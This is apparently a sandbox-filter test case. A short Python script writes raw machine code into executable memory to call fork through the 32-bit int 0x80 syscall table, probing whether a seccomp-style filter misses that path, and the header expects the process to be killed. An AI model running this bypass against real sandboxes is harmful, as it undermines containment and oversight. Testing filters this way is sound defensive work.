# goal: call the kernel through its table for 32-bit programs, which a filter may have forgotten
# seen: cell=died died
# within_s: 10
# lacks: attack got
import ctypes
import mmap
import os
import platform

if platform.machine() != "x86_64":
    os._exit(0)
code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
code.write(bytes.fromhex("53 b8 02 00 00 00 cd 80 5b c3"))  # fork, number 2 in that table, by int 0x80
pid = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()
if pid == 0:
    os._exit(0)
print("attack got", pid)
